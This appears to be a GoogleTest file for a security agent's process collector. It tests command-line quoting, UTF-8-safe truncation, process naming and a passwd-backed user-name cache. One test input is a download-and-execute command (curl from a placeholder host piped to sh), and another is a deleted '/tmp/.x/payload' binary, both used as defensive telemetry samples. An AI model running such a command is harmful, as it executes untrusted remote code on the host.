// Command lines and process names as events show them, and the passwd cache behind user.name.

#include <gtest/gtest.h>

#include <fstream>
#include <string>

#include "agent/collectors/process/proc_reader.h"
#include "agent/collectors/process/user_names.h"
#include "tests/support/temp_dir.h"

namespace sentinel::agent::process {
namespace {

using namespace std::string_literals;

TEST(CommandLine, QuotesOnlyArgumentsThatNeedIt) {
  EXPECT_EQ(quote_command_line("/bin/sh\0-c\0curl http://x/a|sh\0"s),
            "/bin/sh -c 'curl http://x/a|sh'");
  EXPECT_EQ(quote_command_line("ls\0-la\0/tmp\0"s), "ls -la /tmp");
  EXPECT_EQ(quote_command_line("echo\0\0it's\0a\\b\0"s), "echo '' 'it'\\''s' 'a\\b'");
  EXPECT_EQ(quote_command_line("printf\0a\tb\nc\0"s), "printf 'a\tb\nc'");
  // Titles rewritten with setproctitle() end in NUL padding, not empty arguments.
  EXPECT_EQ(quote_command_line("nginx: worker process\0\0\0\0"s), "'nginx: worker process'");
  EXPECT_EQ(quote_command_line(""), "");  // kernel threads
}

TEST(CommandLine, ReplacesInvalidUtf8AndCutsAtTheCap) {
  EXPECT_EQ(quote_command_line("cat\0bad\xff\0"s), "cat bad\xEF\xBF\xBD");

  bool truncated = true;
  EXPECT_EQ(quote_command_line("x", 100, &truncated), "x");
  EXPECT_FALSE(truncated);

  // "é" is two bytes: a cut inside it would leave invalid UTF-8.
  const std::string raw = "echo\0"s + std::string(8, 'a') + "\xC3\xA9";
  EXPECT_EQ(quote_command_line(raw, 14, &truncated), "echo aaaaaaaa");
  EXPECT_TRUE(truncated);

  const std::string huge = "x\0"s + std::string(kMaxCommandLineBytes, 'y');
  const std::string quoted = quote_command_line(huge, kMaxCommandLineBytes, &truncated);
  EXPECT_EQ(quoted.size(), kMaxCommandLineBytes);
  EXPECT_TRUE(truncated);
}

TEST(ProcessName, IsTheExecutablesFileNameElseTheKernelName) {
  EXPECT_EQ(process_name("/usr/sbin/sshd", "sshd"), "sshd");
  EXPECT_EQ(process_name("/tmp/.x/payload (deleted)", "kworker"), "payload");
  EXPECT_EQ(process_name("", "kthreadd"), "kthreadd");
}

TEST(UserNames, FollowsChangesToThePasswdFile) {
  const test::TempDir directory("user-names");
  const auto passwd = directory.path() / "passwd";
  std::ofstream(passwd) << "root:x:0:0:root:/root:/bin/bash\n"
                           "# a comment\n"
                           "alice:x:1000:1000::/home/alice:/bin/bash\n";
  UserNames names(passwd);
  names.refresh();
  ASSERT_NE(names.find(1000), nullptr);
  EXPECT_EQ(*names.find(1000), "alice");
  EXPECT_EQ(names.find(1001), nullptr);

  std::ofstream(passwd) << "root:x:0:0:root:/root:/bin/bash\n"
                           "alice2:x:1000:1000::/home/alice:/bin/bash\n"
                           "bob:x:1001:1001::/home/bob:/bin/bash\n";
  names.refresh();
  ASSERT_NE(names.find(1001), nullptr);
  EXPECT_EQ(*names.find(1001), "bob");
  EXPECT_EQ(*names.find(1000), "alice2");

  std::filesystem::remove(passwd);
  names.refresh();
  EXPECT_EQ(names.find(0), nullptr);
}

}  // namespace
}  // namespace sentinel::agent::process
